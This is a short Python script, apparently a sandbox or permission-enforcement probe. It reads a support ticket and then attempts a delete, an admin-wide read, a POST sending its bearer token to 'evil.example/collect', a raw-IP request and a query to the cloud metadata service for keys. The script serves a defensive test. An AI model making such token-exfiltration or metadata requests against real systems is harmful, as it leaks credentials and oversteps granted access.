"""What runs in the box: reads tickets, as it should, and then tries what it should not."""
import json
import os
import sys
import urllib.error
import urllib.request

BASE = sys.argv[1]
TOKEN = os.environ.get("TICKET_TOKEN", "none")


def send(what, method, url, body=None):
    request = urllib.request.Request(url, data=body, method=method, headers={"Authorization": f"Bearer {TOKEN}"})
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return print(f"  {what}: {answer.read().decode().strip()}")
    except urllib.error.HTTPError as error:
        told = json.loads(error.read())["error"]
        print(f"  {what}: refused ({error.code}): {told['message']}")
    except OSError as error:
        print(f"  {what}: {error.reason if hasattr(error, 'reason') else error}")


print(f"  my token is {TOKEN}")
send("read a ticket", "GET", f"{BASE}/tickets/7")
send("delete it", "DELETE", f"{BASE}/tickets/7")
send("read everybody's", "GET", f"{BASE}/admin/all")
send("send the token away", "POST", "https://evil.example/collect", TOKEN.encode())
send("by address", "GET", "http://203.0.113.7/")
send("ask the cloud for keys", "GET", "http://169.254.169.254/latest/meta-data/")
